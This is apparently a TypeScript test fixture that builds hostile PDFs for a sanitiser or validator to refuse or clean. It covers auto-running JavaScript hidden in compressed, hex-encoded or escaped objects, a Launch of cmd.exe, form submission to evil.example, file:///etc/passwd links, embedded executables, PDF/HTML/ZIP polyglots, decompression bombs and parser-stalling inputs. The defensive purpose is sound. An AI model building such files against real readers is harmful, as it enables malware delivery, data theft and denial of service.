/** PDFs that act by themselves, carry something, or hide that they do: for readers of every kind. */
import { deflateSync } from 'node:zlib';
import { packedObjects, pdf, pdfWith, stream, text, zip } from './attack-files.ts';

export const javaScript = '<< /S /JavaScript /JS (app.alert(1)) >>';
const action = (kind: string, more = '') => `<< /Type /Action /S /${kind} ${more} >>`;
const packed = (data: Buffer) => stream('/Filter /FlateDecode', data);

/** A file whose table of contents is a stream, as an object stream needs it: object 9 is in object 4. */
function pdfOfPackedObject(objectStream: Buffer): Buffer {
  const parts = [text('%PDF-1.7\n')];
  const places: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const objects = [
    text('<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>'),
    text('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    text('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>'),
    objectStream,
  ];
  for (const [place, object] of objects.entries()) {
    places.push(length());
    parts.push(text(`${place + 1} 0 obj\n`), object, text('\nendobj\n'));
  }
  const start = length();
  const rows = Buffer.alloc(10 * 7);
  const row = (number: number, type: number, second: number, third = 0) => {
    rows[number * 7] = type;
    rows.writeUInt32BE(second, number * 7 + 1);
    rows.writeUInt16BE(third, number * 7 + 5);
  };
  for (const [place, at] of places.entries()) row(place + 1, 1, at);
  row(5, 1, start);
  row(9, 2, 4, 0);
  const table = stream('/Type /XRef /Size 10 /W [1 4 2] /Root 1 0 R', rows);
  parts.push(text('5 0 obj\n'), table, text(`\nendobj\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const hidden = text(`9 0 ${javaScript}`);
const head = '/Type /ObjStm /N 1 /First 4';
function withWrongChecksum(data: Buffer): Buffer {
  const damaged = Buffer.from(data);
  damaged.set([1, 2, 3, 4], damaged.length - 4);
  return damaged;
}
const hex = (data: Buffer) => text(`${data.toString('hex')}>`);

/** A page that says «Hei» and has these keys. */
const pageWith = (keys: string, objects: (string | Buffer)[] = []) =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R
      /Resources << /Font << /A << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> ${keys} >>`,
    stream('', text('BT /A 12 Tf 10 10 Td (Hei) Tj ET')),
    ...objects,
  ]);
const annotation = (keys: string) => pageWith(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${keys} >>]`);
const twoLayers = deflateSync(deflateSync(hidden));
const archiveInside = () => {
  const ending = text('\nstartxref\n0\n%%EOF\n');
  const archive = zip('x.js', text('alert(1)'));
  archive.writeUInt16LE(ending.length, archive.length - 2);
  return Buffer.concat([pdfWith('').subarray(0, -20), archive, ending]);
};

/** By name. Each of them is to be refused, or to come out without anything that acts. */
export const hostilePdfs: Record<string, () => Buffer> = {
  'packed JavaScript under a wrong checksum': () =>
    pdfOfPackedObject(stream(`${head} /Filter /FlateDecode`, withWrongChecksum(deflateSync(hidden)))),
  'JavaScript packed twice': () =>
    pdfOfPackedObject(stream(`${head} /Filter [/FlateDecode /FlateDecode]`, twoLayers)),
  'JavaScript in hexadecimal behind a long dictionary': () =>
    pdfOfPackedObject(stream(`${head} /Filter /ASCIIHexDecode /Nothing (${' '.repeat(3000)})`, hex(hidden))),
  'JavaScript packed and in hexadecimal': () =>
    pdfOfPackedObject(stream(`${head} /Filter [/ASCIIHexDecode /FlateDecode]`, hex(deflateSync(hidden)))),
  'JavaScript among packed objects': () => pdfOfPackedObject(packedObjects(javaScript)),
  'packed objects under a wrong length': () =>
    pdfOfPackedObject(
      text(
        packedObjects(javaScript)
          .toString('latin1')
          .replace(/\/Length \d+/, '/Length 1'),
      ),
    ),
  'JavaScript at its opening': () => pdfWith(`/OpenAction ${javaScript}`),
  'JavaScript under a written-out name': () =>
    pdfWith('/OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >>'),
  'JavaScript by name': () => pdfWith('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', [javaScript]),
  'JavaScript in a stream': () =>
    pdfWith('/OpenAction << /S /JavaScript /JS 4 0 R >>', [packed(deflateSync(text('app.alert(1)')))]),
  'JavaScript when it is closed and printed': () => pdfWith(`/AA << /WC ${javaScript} /WP ${javaScript} >>`),
  'JavaScript when a page is opened': () => pageWith(`/AA << /O ${javaScript} >>`),
  'JavaScript behind a link': () => annotation(`/Subtype /Link /A ${javaScript}`),
  'a link to a script': () => annotation('/Subtype /Link /A << /S /URI /URI (javascript:alert(1)) >>'),
  'a link to a file': () => annotation('/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>'),
  'a second action behind a link': () =>
    annotation(`/Subtype /Link /A << /S /URI /URI (https://a.example) /Next ${javaScript} >>`),
  'a field that reckons': () =>
    pdfWith('/AcroForm << /Fields [4 0 R] /CO [4 0 R] >>', [
      `<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /AA << /C ${javaScript} >> >>`,
    ]),
  'a bookmark that runs a script': () =>
    pdfWith('/Outlines 4 0 R', [
      '<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>',
      `<< /Title (Trykk) /Parent 4 0 R /A ${javaScript} >>`,
    ]),
  'a program that is started': () => pdfWith(`/OpenAction ${action('Launch', '/F (cmd.exe)')}`),
  'a form that is sent': () => pdfWith(`/OpenAction ${action('SubmitForm', '/F (https://evil.example)')}`),
  'data that are fetched': () => pdfWith(`/OpenAction ${action('ImportData', '/F (x.fdf)')}`),
  'another file that is opened': () => pdfWith(`/OpenAction ${action('GoToR', '/F (x.pdf) /D [0 /Fit]')}`),
  'a file inside that is opened': () => pdfWith(`/OpenAction ${action('GoToE', '/D [0 /Fit]')}`),
  'a file in it': () =>
    pdfWith('/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>', [
      '<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>',
      stream('/Type /EmbeddedFile', text('MZ')),
    ]),
  'a file pinned to a page': () =>
    annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (x.exe) /EF << /F 4 0 R >> >>'),
  'a file that goes along with a page': () => pageWith('/AF [<< /Type /Filespec /F (x.exe) >>]'),
  'a portfolio': () => pdfWith('/Collection << /Type /Collection >>'),
  'a form of another kind': () => pdfWith('/AcroForm << /XFA 4 0 R >>', [stream('', text('<xdp/>'))]),
  'a film': () => annotation('/Subtype /RichMedia /RichMediaContent << /Assets 4 0 R >>'),
  'a film on the screen': () =>
    annotation(`/Subtype /Screen /A ${action('Rendition', '/JS (app.alert(1)) /OP 0')}`),
  'a sound': () => annotation(`/Subtype /Sound /A ${action('Sound')}`),
  'something in three dimensions': () => annotation('/Subtype /3D /3DD 4 0 R'),
  'a picture that lies elsewhere': () =>
    pageWith('/Thumb 5 0 R', [stream('/Subtype /Image /F (https://evil.example/x.jpg)', Buffer.alloc(0))]),
  'a page of another file': () => pageWith('/Group << /Ref << /F (https://evil.example/x.pdf) /Page 1 >> >>'),
  'PostScript on a page': () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /P 4 0 R >> >> >>',
      stream('/Type /XObject /Subtype /PS', text('(x) run')),
    ]),
  'a second edition with JavaScript behind the first': () =>
    Buffer.concat([
      pdfWith(''),
      text(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${javaScript} >>\nendobj\nxref\n0 0\n`),
      text('trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
    ]),
  'a first edition with JavaScript behind a harmless one': () =>
    Buffer.concat([
      pdfWith(`/OpenAction ${javaScript}`),
      text('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 0\n'),
      text('trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
    ]),
  'an archive behind it': () => Buffer.concat([pdfWith(''), zip('x.js', text('alert(1)'))]),
  'a web page behind it': () => Buffer.concat([pdfWith(''), text('<script>alert(1)</script>')]),
  'a web page in front': () =>
    Buffer.concat([text('%PDF-1.4\n<script>alert(1)</script>\n'), pdfWith('').subarray(9)]),
  'an archive that ends where it ends': archiveInside,
  'a signature over a script': () => pdfWith(`/Sig << /ByteRange [0 10 20 30] >> /OpenAction ${javaScript}`),
  'a password': () => pdfWith('', [], '/Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -1 >>'),
  'no pages': () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  'pages that hold themselves': () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  'very deep brackets': () => pageWith(`/Group ${'['.repeat(200_000)}${']'.repeat(200_000)}`),
  'half of it': () => pdfWith('').subarray(0, 150),
  'a page of 400 megabytes': () =>
    pageWith('/Contents 5 0 R', [packed(deflateSync(Buffer.alloc(400_000_000, 0x20)))]),
  'a page of many large parts': () =>
    pageWith(
      `/Contents [${Array.from({ length: 9 }, (_, place) => `${place + 5} 0 R`).join(' ')}]`,
      Array.from({ length: 9 }, () => packed(deflateSync(Buffer.alloc(30_000_000, 0x20)))),
    ),
};

/** PDFs that are small and long to read. */
export const slowPdfs: Record<string, () => Buffer> = {
  'beginnings of metadata without an end': () => pdfWith('', [text('<x:xmpmeta'.repeat(100_000))]),
  'packets without an end': () => pdfWith('', [text('<?xpacket begin'.repeat(66_000))]),
  'a hundred thousand information dictionaries': () =>
    pdfWith('', [text(Array.from({ length: 70_000 }, (_, place) => `/Info ${place} 0 R`).join(' '))]),
  'objects that never end': () => pdfWith('', [text('1 0 obj << '.repeat(90_000))]),
  'streams that never end': () => pdfWith('', [text('1 0 obj << >> stream\n'.repeat(48_000))]),
  'brackets that never end': () => pdfWith('', [text('1 0 obj [ ('.repeat(90_000))]),
};
